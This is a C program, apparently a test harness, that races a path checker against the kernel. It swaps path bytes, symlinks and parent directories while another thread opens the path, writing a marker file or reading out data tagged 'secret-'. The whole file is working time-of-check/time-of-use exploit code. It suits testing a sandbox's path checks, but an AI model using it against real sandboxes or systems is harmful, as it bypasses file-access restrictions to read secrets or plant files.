/* Races a checker against the kernel: one thread keeps changing what a path means, the other keeps using it.
 *
 * race text  GOOD BAD MARK SECONDS    the path's bytes change under an open for writing
 * race read  GOOD BAD - SECONDS       the same for reading; what was read goes to standard output
 * race link  GOOD BAD MARK SECONDS    LINK is exchanged between a file and a symbolic link to BAD
 * race parent GOOD BAD MARK SECONDS   a parent directory is exchanged with a symbolic link
 *
 * GOOD and BAD have the same length for `text` and `read`.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static char buffer[4096], good[4096], bad[4096];
static const char *mark;
static volatile int stop;
static int mode;

static int exchange(const char *a, const char *b) {
  return syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2u);
}

static void *change(void *unused) {
  size_t length = strlen(good) + 1;
  (void)unused;
  while (!stop) {
    if (mode <= 1) {
      memcpy(buffer, bad, length);
      for (volatile int spin = 0; spin < 300; spin++) {
      }
      memcpy(buffer, good, length);
      for (volatile int spin = 0; spin < 300; spin++) {
      }
    } else {
      exchange("race-a", "race-b");
    }
  }
  return NULL;
}

static void use(const char *path) {
  char got[512];
  int fd;
  if (mode == 1) {
    fd = open(path, O_RDONLY);
    if (fd >= 0) {
      ssize_t n = read(fd, got, sizeof got);
      if (n > 0 && memmem(got, n, "secret-", 7)) {
        if (write(1, got, n) < 0) stop = 1;
      }
      close(fd);
    }
    return;
  }
  fd = open(path, O_WRONLY | O_CREAT, 0755);
  if (fd >= 0) {
    if (write(fd, mark, strlen(mark)) < 0) stop = 1;
    close(fd);
  }
}

int main(int count, char **words) {
  pthread_t changer;
  time_t until;
  char path[8192];
  if (count != 6) return 64;
  mode = !strcmp(words[1], "text") ? 0 : !strcmp(words[1], "read") ? 1 : !strcmp(words[1], "link") ? 2 : 3;
  snprintf(good, sizeof good, "%s", words[2]);
  snprintf(bad, sizeof bad, "%s", words[3]);
  mark = words[4];
  until = time(NULL) + atoi(words[5]);
  strcpy(buffer, good);
  if (mode == 2) {
    int fd = open("race-a", O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) close(fd);
    if (symlink(bad, "race-b")) return 1;
  }
  if (mode == 3) {
    char *name = strrchr(bad, '/');
    mkdir("race-a", 0755);
    *name = 0;
    if (symlink(bad, "race-b")) return 1;
    *name = '/';
  }
  if (pthread_create(&changer, NULL, change, NULL)) return 1;
  while (time(NULL) < until) {
    if (mode <= 1) {
      use(buffer);
    } else if (mode == 2) {
      use("race-a");
    } else {
      snprintf(path, sizeof path, "race-a%s", strrchr(bad, '/'));
      use(path);
    }
  }
  stop = 1;
  pthread_join(changer, NULL);
  return 0;
}
